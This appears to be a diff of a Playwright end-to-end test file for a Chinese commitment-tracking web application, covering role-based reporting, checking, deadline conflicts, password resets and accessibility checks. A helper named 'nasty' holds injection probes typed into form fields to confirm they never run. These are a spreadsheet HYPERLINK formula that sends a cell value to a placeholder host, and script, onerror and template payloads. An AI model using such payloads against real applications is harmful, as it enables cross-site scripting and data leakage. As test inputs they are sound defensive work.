@@ -1,11 +1,14 @@
 // A person at the web application: a real browser, a real server. Run by e2e_test.py, which says where both are:
-//   LUOSHI_BASE address · LUOSHI_CHROMIUM browser · LUOSHI_NAME, LUOSHI_PASSWORD an editor · LUOSHI_NEWCOMER "name:first password"
+//   LUOSHI_BASE address · LUOSHI_CHROMIUM browser · LUOSHI_EDITOR, _REPORTER, _CHECKER … "name:password" of each part; parts the
+//   server has nobody for are left out, and their tests skipped · LUOSHI_NEWCOMER "name:first password" · LUOSHI_SHOTS folder for pictures
 import assert from 'node:assert/strict'
 import { createRequire } from 'node:module'
 import { after, before, test } from 'node:test'
 import { readFileSync } from 'node:fs'
 
-const { LUOSHI_BASE: base, LUOSHI_CHROMIUM: executablePath, LUOSHI_NAME: name, LUOSHI_PASSWORD: password, LUOSHI_NEWCOMER: newcomer, LUOSHI_WEB: web } = process.env
+const { LUOSHI_BASE: base, LUOSHI_CHROMIUM: executablePath, LUOSHI_NEWCOMER: newcomer, LUOSHI_WEB: web, LUOSHI_SHOTS: shots } = process.env
+const kParts = Object.fromEntries(['editor', 'reporter', 'leaver', 'checker', 'keeper', 'guard'].map((part) => [part, process.env[`LUOSHI_${part.toUpperCase()}`]?.split(':')]))
+const [name, password] = kParts.editor
 const require = createRequire(`${web}/package.json`)
 const { chromium } = require('playwright-core')
 const axe = readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8')
@@ -17,7 +20,7 @@ after(async () => { await browser.close() })
 
 /** A page in a browser of its own that notes whatever should not happen. */
 async function visitor(viewport = kWide) {
-  const context = await browser.newContext({ viewport })
+  const context = await browser.newContext({ viewport, locale: 'zh-CN' })
   const page = await context.newPage()
   const wrong = []
   page.on('pageerror', (error) => wrong.push(error.message))
@@ -34,10 +37,10 @@ async function fill(page, who = name, word = password) {
   await page.click('form button.main-act')
 }
 
-async function signedIn(path = '/', viewport = kWide) {
+async function signedIn(path = '/', viewport = kWide, part = 'editor') {
   const visit = await visitor(viewport)
   await visit.page.goto(base + path)
-  await fill(visit.page)
+  await fill(visit.page, ...kParts[part])
   await visit.page.waitForSelector('.page-head')
   return visit
 }
@@ -200,6 +203,162 @@ test('a commitment leads to its sentence, to its event, and to a proof that hold
   await done(visit)
 })
 
+/** What must never run, whatever field it is typed into. */
+const nasty = (words) => `=HYPERLINK("http://example.invalid/?"&A1,"x") <img src=x onerror="alert(1)"> <script>alert(2)</script> {{alert(3)}} ${words}`
+
+/** The first commitment with assets to pick on which the person may report. */
+async function reportable(page) {
+  return page.evaluate(async () => {
+    for (let id = 1; ; id += 1) {
+      const answer = await fetch(`/api/v1/commitments/${id}`)
+      if (!answer.ok) return null
+      const full = await answer.json()
+      if (full.steps.includes('report') && full.funnel.length > 0) return full
+    }
+  })
+}
+
+async function signInAgain(page, word) {
+  await page.waitForSelector('dialog[open] input[name=password]')
+  await page.fill('dialog[open] input[name=password]', word)
+  await page.click('dialog[open] button.main-act')
+}
+
+test('a river is picked, the session ends, the report is filed all the same; another person returns it with a reason', async () => {
+  const reporter = await signedIn('/', kWide, 'reporter')
+  const { row } = await reportable(reporter.page)
+  await reporter.page.goto(`${base}/commitments/${row.id}`)
+  await reporter.page.getByRole('button', { name: '填报进展' }).click()
+  const note = nasty(`完工，附验收单 ${Date.now()}`)
+  const river = reporter.page.locator('.assets li').first()
+  const picked = await river.locator('b').textContent()
+  await river.getByRole('radio', { name: '完工' }).click()
+  await reporter.page.locator('.cmd textarea').fill(note)
+  await reporter.page.reload()
+  assert.equal(await reporter.page.locator('.cmd textarea').inputValue(), note, 'typed words survive a reload')
+  await reporter.page.locator('.assets li', { hasText: picked }).getByRole('radio', { name: '完工', checked: true }).waitFor()
+  await reporter.context.clearCookies()
+  await reporter.page.locator('.cmd button.main-act').click()
+  await signInAgain(reporter.page, kParts.reporter[1])
+  await reporter.page.locator('.tbl p', { hasText: note }).first().waitFor()
+  await reporter.page.locator('.chart canvas').first().waitFor()
+  await done(reporter)
+
+  const checker = await signedIn('/', kWide, 'checker')
+  const waiting = await checker.page.evaluate(async (words) => (await (await fetch('/api/v1/reports?checkable=1&size=200')).json()).items.find((each) => each.report.note === words), note)
+  assert.ok(waiting, 'the report waits for the checker')
+  await checker.page.goto(`${base}/commitments/${row.id}`)
+  const line = checker.page.locator('tbody', { hasText: note })
+  await line.getByRole('button', { name: '核查', exact: true }).click()
+  await line.getByRole('radio', { name: '退回' }).click()
+  await line.getByRole('button', { name: '记下结论' }).click()
+  await line.locator('[role=alert]', { hasText: '没有写原因' }).waitFor()
+  await line.locator('textarea').fill(nasty('没有验收单'))
+  await line.getByRole('button', { name: '记下结论' }).click()
+  await line.locator('td', { hasText: '退回' }).first().waitFor()
+  await line.getByText('没有验收单').waitFor()
+  await done(checker)
+})
+
+test('two checkers at one report: the second sees both verdicts', async () => {
+  const first = await signedIn('/', kWide, 'checker'), second = await signedIn('/', kWide, 'checker')
+  const { report, commitment } = await first.page.evaluate(async () => (await (await fetch('/api/v1/reports?checkable=1&size=200')).json()).items[0] ?? {})
+  if (!report) return Promise.all([done(first), done(second)])
+  const open = async ({ page }, verdict, reason) => {
+    await page.goto(`${base}/commitments/${commitment.id}`)
+    if (await page.getByRole('button', { name: /^其余/ }).count()) await page.getByRole('button', { name: /^其余/ }).click()
+    const button = page.getByRole('button', { name: '核查', exact: true })
+    await button.last().click()
+    await page.getByRole('radio', { name: verdict }).click()
+    await page.locator('.cmd textarea').fill(reason)
+  }
+  await open(second, '退回', '照片是旧的')
+  await open(first, '核查属实', '看过现场')
+  await first.page.getByRole('button', { name: '记下结论' }).click()
+  await first.page.getByText('看过现场').waitFor()
+  await second.page.getByRole('button', { name: '记下结论' }).click()
+  const both = second.page.locator('.both')
+  await both.getByText('核查属实，看过现场').waitFor()
+  assert.match(await both.textContent(), /退回，照片是旧的/)
+  await second.page.locator('.since li').first().waitFor()
+  await second.page.getByRole('button', { name: '照现在的' }).click()
+  assert.equal(await second.page.locator('.cmd').count(), 0)
+  await done(first)
+  await done(second)
+})
+
+test('two people extend one deadline: both days are shown, the second decides, the first deadline stays', async () => {
+  const first = await signedIn(), second = await signedIn()
+  const id = await first.page.evaluate(async () => {
+    const { items } = await (await fetch('/api/v1/commitments?state=in_force&size=50&sort=title')).json()
+    for (const { id } of items) if ((await (await fetch(`/api/v1/commitments/${id}`)).json()).steps.includes('extend')) return id
+    return 0
+  })
+  const open = async ({ page }, day, reason) => {
+    await page.goto(`${base}/commitments/${id}`)
+    await page.getByRole('button', { name: '改期限' }).click()
+    await page.locator('.cmd input[type=date]').fill(day)
+    await page.locator('.cmd .el-select input').click()
+    await page.locator('.el-select-dropdown__item:visible').first().click()
+    await page.locator('.cmd textarea').fill(reason)
+  }
+  await open(second, '2028-03-31', nasty('汛期停工'))
+  await open(first, '2028-06-30', '征拆未完')
+  await first.page.locator('.cmd button.main-act').click()
+  await first.page.locator('.tl b', { hasText: '2028年6月30日' }).waitFor()
+  await second.page.locator('.cmd button.main-act').click()
+  const both = second.page.locator('.both')
+  await both.getByText('2028年6月30日').first().waitFor()
+  assert.match(await both.textContent(), /2028年3月31日.*汛期停工/)
+  await second.page.getByRole('button', { name: '看过了，仍按我填的提交' }).click()
+  await second.page.locator('.tl b', { hasText: '2028年3月31日' }).waitFor()
+  assert.equal(await second.page.locator('.tl li.now b').textContent(), '2028年3月31日')
+  await done(first)
+  await done(second)
+})
+
+test('a right withdrawn under an open page: the form says so and keeps what was typed', { skip: !kParts.guard }, async () => {
+  const leaver = await signedIn('/', kWide, 'leaver')
+  const { row } = await reportable(leaver.page)
+  const { person, post } = await leaver.page.evaluate(async () => (await fetch('/api/v1/session')).json())
+  await leaver.page.goto(`${base}/commitments/${row.id}`)
+  await leaver.page.getByRole('button', { name: '填报进展' }).click()
+  await leaver.page.locator('.cmd textarea').fill('离任前没交上的一句')
+  const guard = await signedIn('/accounts', kWide, 'guard')
+  const ended = await guard.page.evaluate(async ([who, where]) => {
+    const { csrf } = await (await fetch('/api/v1/session')).json()
+    const answer = await fetch('/api/v1/commands', { method: 'POST', headers: { 'Content-Type': 'application/json', 'X-Luoshi-Csrf': csrf }, body: JSON.stringify({ id: `end-${who}`, type: 'end_holder', body: { person: who, post: where, until: '2026-01-31' } }) })
+    return answer.status === 200 ? '' : answer.text()
+  }, [person, post])
+  assert.equal(ended, '')
+  await leaver.page.locator('.cmd button.main-act').click()
+  await leaver.page.locator('.cmd [role=alert], dialog[open]').first().waitFor()
+  assert.match(await leaver.page.locator('.cmd [role=alert]').textContent(), /还在，没有丢/)
+  assert.equal(await leaver.page.locator('.cmd textarea').inputValue(), '离任前没交上的一句')
+  await done(leaver)
+  await done(guard)
+})
+
+test('accounts: a password is reset only at the second click and shown once; the record says so', { skip: !kParts.keeper }, async () => {
+  const keeper = await signedIn('/', kWide, 'keeper')
+  await keeper.page.waitForURL(/accounts$/)
+  const row = keeper.page.locator('tbody tr', { has: keeper.page.getByRole('button', { name: '重置密码' }) }).last()
+  const who = await row.locator('b').first().textContent()
+  await row.getByRole('button', { name: '重置密码' }).click()
+  assert.equal(await keeper.page.locator('.first-password').count(), 0)
+  await keeper.page.getByRole('button', { name: /确定重置/ }).click()
+  const first = await keeper.page.locator('.first-password code').textContent()
+  assert.ok(first.length >= 12)
+  await keeper.page.locator('td', { hasText: '重置密码' }).last().waitFor()
+  await keeper.page.getByRole('button', { name: '记下了，收起' }).click()
+  const visit = await visitor()
+  await visit.page.goto(base)
+  await fill(visit.page, who, first)
+  await visit.page.waitForSelector('input[name=again]')
+  await done(visit)
+  await done(keeper)
+})
+
 test('a long list scrolls to its end with few rows in the page, and finds words of two characters', async () => {
   const visit = await signedIn('/commitments')
   await visit.page.waitForSelector('.tbl.rows .goal')
@@ -215,25 +374,42 @@ test('a long list scrolls to its end with few rows in the page, and finds words 
   await done(visit)
 })
 
+/** Everybody sees the same pages; these see one more. */
+const kMore = { reporter: ['/reporting'], checker: ['/checks'], keeper: ['/accounts'] }
+
+/** Looks at pages as they stand: nothing serious for axe, nothing over the side; says in a line what axe found. */
+async function inspect(visit, paths, language, viewport) {
+  await visit.page.evaluate((chosen) => localStorage.setItem('luoshi.language', chosen), language)
+  for (const path of paths) {
+    await visit.page.goto(base + path)
+    await visit.page.waitForSelector('.page-head h1')
+    await visit.page.waitForFunction(() => document.querySelectorAll('.panel').length > 0 && !/正在读取|Reading/.test(document.querySelector('main').innerText) || document.querySelector('h1').innerText.match(/没有这一页|No such/))
+    await visit.page.evaluate(axe)
+    const found = await visit.page.evaluate(async () => {
+      const { violations, passes } = await window.axe.run(document, { resultTypes: ['violations'] })
+      return { passes: passes.length, violations: violations.map((each) => ({ impact: each.impact, what: `${each.id}: ${each.nodes[0].html.slice(0, 120)}` })) }
+    })
+    const serious = found.violations.filter((each) => each.impact === 'serious' || each.impact === 'critical')
+    console.log(`axe | ${path} | ${viewport.width} | ${language} | rules met ${found.passes} | serious ${serious.length} | lesser ${found.violations.length - serious.length}`)
+    assert.deepEqual(serious.map((each) => each.what), [], `${path} in ${language}`)
+    const over = await visit.page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)
+    assert.ok(over <= 0, `${path} in ${language} runs ${over} px over the side`)
+    if (shots && language === 'zh') await visit.page.screenshot({ path: `${shots}/${path.slice(1).replace(/\W+/g, '_') || 'overview'}_${viewport.width}.png`, fullPage: true })
+  }
+}
+
 for (const viewport of [kWide, kPhone])
   test(`every page at ${viewport.width} px: nothing serious for axe, nothing sideways, in both languages`, async () => {
     const visit = await signedIn('/', viewport)
     const { id } = await openPaper(visit.page)
     const commitments = await visit.page.evaluate(async () => (await (await fetch('/api/v1/commitments?size=1')).json()).items)
     const pages = ['/', '/documents', `/documents/${id}`, '/questions', '/commitments', ...commitments.map((each) => `/commitments/${each.id}`), '/ledger', '/ledger/events/1', '/settings', '/nowhere']
-    for (const language of ['zh', 'en']) {
-      await visit.page.evaluate((chosen) => localStorage.setItem('luoshi.language', chosen), language)
-      for (const path of pages) {
-        await visit.page.goto(base + path)
-        await visit.page.waitForSelector('.page-head h1')
-        await visit.page.waitForFunction(() => document.querySelectorAll('.panel').length > 0 && !/正在读取|Reading/.test(document.querySelector('main').innerText) || document.querySelector('h1').innerText.match(/没有这一页|No such/))
-        await visit.page.evaluate(axe)
-        const found = await visit.page.evaluate(async () => (await window.axe.run(document, { resultTypes: ['violations'] })).violations
-          .filter((each) => each.impact === 'serious' || each.impact === 'critical').map((each) => `${each.id}: ${each.nodes[0].html.slice(0, 120)}`))
-        assert.deepEqual(found, [], `${path} in ${language}`)
-        const over = await visit.page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)
-        assert.ok(over <= 0, `${path} in ${language} runs ${over} px over the side`)
-      }
-    }
+    for (const language of ['zh', 'en']) await inspect(visit, pages, language, viewport)
     await done(visit)
+    for (const [part, paths] of Object.entries(kMore)) {
+      if (!kParts[part]) continue
+      const one = await signedIn(paths[0], viewport, part)
+      for (const language of ['zh', 'en']) await inspect(one, paths, language, viewport)
+      await done(one)
+    }
   })
